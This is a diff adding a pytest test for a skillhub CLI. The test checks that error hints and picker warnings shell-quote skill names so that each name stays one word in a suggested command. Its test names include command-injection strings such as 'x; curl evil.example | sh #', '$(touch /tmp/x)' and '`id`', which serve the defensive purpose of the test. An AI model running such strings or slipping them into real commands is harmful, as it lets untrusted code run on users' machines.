@@ -1,0 +1,23 @@
+"""What an error tells somebody to run is one command, whatever a skill is called."""
+
+from __future__ import annotations
+
+import shlex
+
+import pytest
+
+from skillhub_mcp.cli.picker_rows import PickerRow, warning_about
+from skillhub_mcp.errors import ConfirmationRequired, SkillDisabled
+
+NAMES = ["pdf", "x; curl evil.example | sh #", "$(touch /tmp/x)", "`id`", "it's", "/a dir/skill", "> /etc/x"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_command_in_a_hint_has_the_name_as_one_word(name: str) -> None:
+    disabled = SkillDisabled(name).hint or ""
+    assert shlex.split(disabled.split("`skillhub ", 1)[1].rpartition("`")[0]) == ["enable", name]
+    asked = ConfirmationRequired("run_skill_command", "x", description="", directory="/x", rule_name=name).hint or ""
+    assert shlex.split(asked.partition(": skillhub ")[2]) == ["permissions", "allow", name, "--run"]
+    for state, command in (("off", "enable"), ("denied", "why")):
+        row = PickerRow("x", name, "", "/x", "hub", "user", state, "")
+        assert shlex.split(warning_about(row).partition("; skillhub ")[2]) == [command, name]
